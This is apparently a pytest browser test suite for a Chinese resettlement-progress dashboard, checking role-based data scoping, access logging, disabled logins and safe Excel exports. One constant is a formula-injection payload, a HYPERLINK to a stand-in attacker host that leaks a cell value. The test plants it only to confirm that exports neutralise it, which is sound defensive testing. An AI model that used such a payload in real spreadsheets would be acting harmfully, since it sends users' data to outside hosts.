"""The dashboard in a real browser: every role logs in and opens every page, the figures shown are the marts'
figures, a district sees only its district, a leader gets no household list, viewing the list is logged,
exports open in openpyxl without live formulas, and a disabled user cannot log in."""

from __future__ import annotations

import io

import openpyxl
import psycopg
import pytest

from tests.browser.pages import OVERVIEW, log_in, open_page, settle, signed_in

pytestmark = pytest.mark.integration

PAGES = (OVERVIEW, "各区", "项目", "住户", "数据质量", "预警")
DISTRICT_NAMES = ("泰山区", "兴安区", "向阳区", "工农区", "南山区", "兴山区")
PLANTED = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"点此查看")'


def metrics(page) -> dict[str, str]:
    out = {}
    for metric in page.locator('[data-testid="stMetric"]').all():
        label = metric.locator('[data-testid="stMetricLabel"]').inner_text().strip()
        out[label] = metric.locator('[data-testid="stMetricValue"]').inner_text().strip()
    return out


def grid_cells(page, index: int = 0) -> list[str]:
    """The visible cells of a st.dataframe (its canvas grid keeps an accessible cell table in the DOM)."""
    cells = page.locator('[data-testid="stDataFrame"]').nth(index).locator("[role=gridcell]")
    cells.first.wait_for(state="attached")
    return cells.all_inner_texts()


def expected_figures(world, district: str | None) -> dict[str, str]:
    with psycopg.connect(world.admin_url) as conn:
        row = conn.execute(
            "select sum(projects), sum(households_total), sum(households_unresettled), sum(households_resettled)"
            " from marts.district_monthly_progress where period = %s and (%s::text is null or district = %s)",
            (world.latest, district, district),
        ).fetchone()
    projects, total, unresettled, resettled = (int(v) for v in row)
    return {
        "项目数": f"{projects:,}",
        "涉及户数": f"{total:,}",
        "未安置户数": f"{unresettled:,}",
        "安置完成率": f"{100 * resettled / total:.1f}%",
    }


@pytest.mark.parametrize("username", ["leader", "office", "engineer", "district_taishan"])
def test_each_role_opens_every_page_and_sees_the_marts_figures(world, dashboard, browser, artifacts, username):
    _role, district, _password = world.users[username]
    with signed_in(browser, dashboard, world, username) as page:
        expected = expected_figures(world, district)
        for label in expected:  # a busy machine can draw the heading before the script's last metric
            page.locator('[data-testid="stMetricLabel"]').get_by_text(label, exact=True).first.wait_for()
        shown = metrics(page)
        for label, value in expected.items():
            assert shown[label] == value, (label, shown)
        for title in PAGES:
            if title != OVERVIEW:
                open_page(page, title)
            assert page.locator('[data-testid="stException"]').count() == 0, page.locator(
                '[data-testid="stException"]'
            ).all_inner_texts()
            page.screenshot(path=str(artifacts / f"{username}_{PAGES.index(title)}_{title}.png"), full_page=True)


def test_a_district_user_sees_only_its_district(world, dashboard, browser, artifacts):
    with signed_in(browser, dashboard, world, "district_taishan") as page:
        assert "数据范围：泰山区" in page.locator('[data-testid="stSidebar"]').inner_text()
        others = [name for name in DISTRICT_NAMES if name != "泰山区"]
        overview = grid_cells(page)
        assert "泰山区" in overview and not set(others) & set(overview)

        open_page(page, "项目")
        projects = grid_cells(page)
        assert "泰山区" in projects and not set(others) & set(projects)

        open_page(page, "住户")
        page.get_by_text("显示名单（查看将记入访问日志）").click()
        settle(page)
        households = grid_cells(page, -1)
        assert "taishan" in households
        assert not {"xingan", "xiangyang", "gongnong", "nanshan", "xingshan"} & set(households)
        page.screenshot(path=str(artifacts / "district_taishan_household_list.png"), full_page=True)
        body = page.locator('[data-testid="stMain"]').inner_text()
        assert not [name for name in others if name in body]


def test_a_leader_gets_counts_but_no_household_list(world, dashboard, browser, artifacts):
    with signed_in(browser, dashboard, world, "leader") as page:
        open_page(page, "住户")
        assert page.get_by_text("您的角色无权查看住户名单").is_visible()
        assert page.get_by_text("显示名单（查看将记入访问日志）").count() == 0
        cells = " ".join(page.locator('[data-testid="stMain"]').all_inner_texts())
        assert "**" not in cells  # no masked name, ID or phone anywhere on the page
        with psycopg.connect(world.admin_url) as conn:
            unresettled = conn.execute(
                "select count(*) from marts.household_resettlement where period = %s and not is_resettled and in_scope",
                (world.latest,),
            ).fetchone()[0]
        assert metrics(page)["未安置住户（纳入攻坚范围）"] == f"{unresettled:,}"


def test_viewing_the_household_list_is_logged_with_its_filter(world, dashboard, browser):
    with signed_in(browser, dashboard, world, "office") as page:
        with psycopg.connect(world.admin_url) as conn:
            before = conn.execute("select coalesce(max(log_id), 0) from access.access_log").fetchone()[0]
        open_page(page, "住户")
        page.get_by_text("显示名单（查看将记入访问日志）").click()
        settle(page)
        assert "**" in " ".join(grid_cells(page, -1))  # masked values, never clear ones
        with psycopg.connect(world.admin_url) as conn:
            rows = conn.execute(
                "select username, role, event, detail from access.access_log where log_id > %s"
                " and event = 'household_list'",
                (before,),
            ).fetchall()
        assert rows and rows[0][:3] == ("office", "office", "household_list")
        assert rows[0][3]["period"] == world.latest and rows[0][3]["unresettled_only"] is True


def test_an_export_opens_in_openpyxl_and_holds_no_live_formula(world, dashboard, browser, artifacts):
    code = world.top_project("priority_score desc")
    with psycopg.connect(world.admin_url) as conn:
        original = conn.execute(
            "update marts.project_joint_review set project_name = %s"
            " where period = %s and project_code = %s returning project_code",
            (PLANTED, world.latest, code),
        ).fetchone()
        assert original
    with signed_in(browser, dashboard, world, "office") as page:
        open_page(page, "项目")
        with page.expect_download() as download:
            page.get_by_role("button", name="导出 Excel").first.click()
        data = download.value.path().read_bytes()
        (artifacts / download.value.suggested_filename).write_bytes(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    planted = [c for c in cells if c.value == PLANTED]
    assert planted and planted[0].data_type == "s" and planted[0].quotePrefix
    assert any(c.value == code for c in cells)


def test_a_disabled_user_cannot_log_in(world, dashboard, browser):
    from resettle.reporting.dashboard.users import add_user, disable_user

    with psycopg.connect(world.admin_url) as conn:
        add_user(conn, "temp_leader", "leader", password="temporary-pass-1")
        assert disable_user(conn, "temp_leader")
    page = log_in(browser, dashboard, "temp_leader", "temporary-pass-1")
    try:
        page.get_by_text("用户名或密码错误，或账号已停用。").wait_for()
        assert page.locator('[data-testid="stSidebarNav"]').count() == 0
    finally:
        page.close()
    with psycopg.connect(world.admin_url) as conn:
        event = conn.execute(
            "select event from access.access_log where username = 'temp_leader' order by log_id desc limit 1"
        ).fetchone()[0]
    assert event == "login_failed"


def test_the_overview_shows_the_change_from_last_month_and_the_district_map(world, dashboard, browser, artifacts):
    with signed_in(browser, dashboard, world, "leader") as page:
        with psycopg.connect(world.admin_url) as conn:
            now, then = (
                conn.execute(
                    "select sum(households_unresettled) from marts.district_monthly_progress where period = %s",
                    (period,),
                ).fetchone()[0]
                for period in (world.latest, "2026-09")
            )
        deltas = {}
        page.locator('[data-testid="stMetric"]').first.wait_for()
        for metric in page.locator('[data-testid="stMetric"]').all():
            label = metric.locator('[data-testid="stMetricLabel"]').inner_text().strip()
            deltas[label] = metric.locator('[data-testid="stMetricDelta"]').inner_text().strip()
        assert len(deltas) == 5 and all(deltas.values()), deltas
        expected = "与上月持平" if now == then else str(int(now - then))
        assert deltas["未安置户数"].replace(",", "").lstrip("+") == expected, deltas
        assert deltas["安置完成率"].endswith(("个百分点", "持平"))
        main = page.locator('[data-testid="stMain"]')
        assert main.get_by_text("各区分布图").is_visible() and main.get_by_text("着色指标").is_visible()
        assert page.locator('[data-testid="stVegaLiteChart"]').count() >= 3
        page.wait_for_timeout(500)
        page.screenshot(path=str(artifacts / "overview_deltas_and_district_map.png"), full_page=True)


@pytest.mark.parametrize("username", ["leader", "office", "district_taishan"])
def test_certificate_and_petition_pages_show_what_the_role_may_see(world, dashboard, browser, artifacts, username):
    _role, district, _password = world.users[username]
    with psycopg.connect(world.admin_url) as conn:
        scope = "(%s::text is null or district = %s)"
        ranked = conn.execute(
            f"select count(*) from marts.certificate_progress where period = %s and {scope}",
            (world.latest, district, district),
        ).fetchone()[0]
        escalated, lacking = conn.execute(
            "select count(*), count(*) filter (where lacks_handler) from marts.petition_cases where period = %s"
            f" and is_open and level in ('省', '进京') and {scope}",
            (world.latest, district, district),
        ).fetchone()
    assert ranked > 0
    with signed_in(browser, dashboard, world, username) as page:
        for title in ("产权办理", "信访"):
            open_page(page, title)
            assert page.locator('[data-testid="stException"]').count() == 0
            page.screenshot(path=str(artifacts / f"{username}_{title}.png"), full_page=True)
            body = page.locator('[data-testid="stMain"]').inner_text()
            cells = grid_cells(page) if page.locator('[data-testid="stDataFrame"]').count() else []
            shown = {name for name in DISTRICT_NAMES if name in " ".join(cells)}
            if district:
                assert shown <= {"泰山区"} and (title != "产权办理" or shown), shown
                assert not [name for name in DISTRICT_NAMES if name != "泰山区" and name in body]
            if title == "产权办理":
                assert f"共 {ranked} 行" in body
            else:
                assert f"共 {escalated} 行" in body or (escalated == 0 and "暂无数据" in body)
                assert ("未落实专人" in " ".join(grid_cells(page, 1))) == bool(lacking) or not escalated


def test_a_district_reads_its_own_files_problems_on_the_quality_page_and_no_one_elses(
    world, dashboard, browser, artifacts
):
    from resettle.domain import reference

    with psycopg.connect(world.admin_url) as conn:
        row = conn.execute(
            "select district, min(message_zh) from marts.submission_findings where period = %s"
            " and district is not null group by district order by count(*) desc, district limit 1",
            (world.latest,),
        ).fetchone()
        senders = {
            r[0] for r in conn.execute("select distinct source from ops.submission where period = %s", (world.latest,))
        }
    assert row, "the world holds a district file with problems"
    district, message = row
    names = {s: src.name_zh for s, src in reference.sources().items()}
    others = {names[s] for s in senders if s != district}
    with signed_in(browser, dashboard, world, f"district_{district}") as page:
        open_page(page, "数据质量")
        page.get_by_role("heading", name="文件问题明细（与回执一致）").wait_for()
        files, findings = grid_cells(page, -2), grid_cells(page, -1)
        assert names[district] in files and names[district] in findings
        assert any(message[:12] in cell for cell in findings), (message, findings)
        assert not others & set(files) and not others & set(findings)
        page.screenshot(path=str(artifacts / f"district_{district}_quality.png"), full_page=True)

    with signed_in(browser, dashboard, world, "leader") as page:
        open_page(page, "数据质量")
        assert page.get_by_role("heading", name="文件问题明细（与回执一致）").count() == 0
        assert "仅领导小组办公室、区、数据工程师可见" in page.locator('[data-testid="stMain"]').inner_text()
